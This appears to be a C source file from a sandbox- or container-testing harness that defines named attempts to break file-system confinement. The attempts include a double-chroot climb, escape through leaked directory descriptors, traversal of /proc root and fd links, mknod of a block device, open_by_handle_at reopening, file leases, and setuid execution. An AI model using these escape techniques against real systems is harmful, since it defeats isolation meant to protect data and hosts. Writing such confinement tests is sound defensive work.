#include "attempt.h"

#include <dirent.h>
#include <fcntl.h>
#include <sys/file.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

static long open_to_read(char** args) { return open(args[0], O_RDONLY | O_NONBLOCK); }
static long open_to_write(char** args) { return open(args[0], O_WRONLY | O_NONBLOCK); }

static long write_value(char** args) {
  int fd = open(args[0], O_WRONLY);
  return fd < 0 ? -1 : write(fd, args[1], strlen(args[1]));
}

/* A second root below the first, then up from a directory that is outside of it: by a kept descriptor, or because the
 * working directory stays where it was. */
static long climb(char** args, int keep_descriptor) {
  const char* below = "/tmp/below";
  mkdir("/tmp", 0755);
  mkdir(below, 0755);
  int here = open("/", O_RDONLY | O_DIRECTORY);
  if (chdir("/") < 0 || chroot(below) < 0) return -1;
  if (keep_descriptor && fchdir(here) < 0) return -1;
  for (int i = 0; i < 200; i++) {
    if (chdir("..") < 0) break;
  }
  if (chroot(".") < 0) return -1;
  return open(args[0], O_RDONLY);
}
static long climb_by_descriptor(char** args) { return climb(args, 1); }
static long climb_by_directory(char** args) { return climb(args, 0); }

/* The numbers of all open descriptors with what they are, one a line. */
static long list_descriptors(char** args) {
  (void)args;
  for (int fd = 0; fd < 4096; fd++) {
    struct stat info;
    if (fstat(fd, &info) == 0) printf("descriptor %d %o\n", fd, info.st_mode & S_IFMT);
  }
  return 0;
}

/* Out by any directory that was left open: DESCRIPTORS tried, each as a start. */
static long leave_by_descriptors(char** args) {
  for (int fd = 3; fd < 4096; fd++) {
    if (fchdir(fd) < 0) continue;
    char path[4096];
    snprintf(path, sizeof path, "../../../../../../../../../../../../%s", args[0]);
    int found = open(path, O_RDONLY);
    if (found < 0) found = open(args[0] + 1, O_RDONLY);
    if (found >= 0) return found;
  }
  return fail_with(ENOENT);
}

static int is_number(const char* text) {
  return text[0] != '\0' && strspn(text, "0123456789") == strlen(text);
}

/* Through every process in sight: its root, its working directory, everything that it has open. */
static long search_processes(char** args) {
  const char* const ways[] = {"root", "cwd", "cwd/../../../../../../../../../..", "task/%s/root"};
  struct stat secret, info;
  int know = args[1] != NULL;
  if (know) sscanf(args[1], "%lu:%lu", &secret.st_dev, &secret.st_ino);
  DIR* proc = opendir("/proc");
  long looked = 0;
  for (struct dirent* item; proc != NULL && (item = readdir(proc)) != NULL;) {
    char path[4096], way[64];
    if (!is_number(item->d_name)) continue;
    looked++;
    for (size_t i = 0; i < sizeof ways / sizeof ways[0]; i++) {
      snprintf(way, sizeof way, ways[i], item->d_name);
      snprintf(path, sizeof path, "/proc/%s/%s%s", item->d_name, way, args[0]);
      if (open(path, O_RDONLY) >= 0) return printf("found %s\n", path);
    }
    for (int fd = 0; know && fd < 64; fd++) {
      snprintf(path, sizeof path, "/proc/%s/fd/%d", item->d_name, fd);
      if (stat(path, &info) == 0 && info.st_dev == secret.st_dev && info.st_ino == secret.st_ino)
        return printf("found %s\n", path);
    }
  }
  printf("looked %ld\n", looked);
  return fail_with(ENOENT);
}

static long make_device(char** args) {
  const char* path = args[0];
  unlink(path);
  return mknod(path, S_IFBLK | 0666, makedev(atoi(args[1]), atoi(args[2])));
}

struct handle {
  unsigned bytes;
  int type;
  unsigned char data[128];
};

/* Where the file PATH is, for open-handle. */
static long print_handle(char** args) {
  struct handle handle = {.bytes = sizeof handle.data};
  int mount_id;
  if (name_to_handle_at(AT_FDCWD, args[0], (struct file_handle*)&handle, &mount_id, 0) < 0)
    return -1;
  printf("handle %d ", handle.type);
  for (unsigned i = 0; i < handle.bytes; i++) printf("%02x", handle.data[i]);
  printf("\n");
  return 0;
}

/* DIRECTORY TYPE HEX: a directory of the same file system, and print-handle's. */
static long open_handle(char** args) {
  struct handle handle = {.type = atoi(args[1])};
  for (const char* at = args[2]; at[0] && at[1]; at += 2)
    sscanf(at, "%2hhx", &handle.data[handle.bytes++]);
  int directory = open(args[0], O_RDONLY | O_DIRECTORY);
  return open_by_handle_at(directory, (struct file_handle*)&handle, O_RDONLY);
}

/* Whoever writes the file next has to wait for us. */
static long take_lease(char** args) {
  int fd = open(args[0], O_RDONLY);
  return fd < 0 ? -1 : fcntl(fd, F_SETLEASE, F_RDLCK);
}

static long run_program(char** args) {
  fflush(stdout);
  return execv(args[0], args);
}

/* Become USER, then run a program: what its set-user-id bit is worth is for that program to say. */
static long run_as(char** args) {
  if (setgid(atoi(args[0])) < 0 || setuid(atoi(args[0])) < 0) return -1;
  return run_program(args + 1);
}

static long print_ids(char** args) {
  (void)args;
  printf("ids %d %d\n", (int)getuid(), (int)geteuid());
  return 0;
}

const struct attempt file_attempts[] = {{"open", open_to_read},
                                        {"open-to-write", open_to_write},
                                        {"write", write_value},
                                        {"climb-by-descriptor", climb_by_descriptor},
                                        {"climb-by-directory", climb_by_directory},
                                        {"list-descriptors", list_descriptors},
                                        {"leave-by-descriptors", leave_by_descriptors},
                                        {"search-processes", search_processes},
                                        {"make-device", make_device},
                                        {"print-handle", print_handle},
                                        {"open-handle", open_handle},
                                        {"take-lease", take_lease},
                                        {"run", run_program},
                                        {"run-as", run_as},
                                        {"print-ids", print_ids},
                                        {NULL, NULL}};
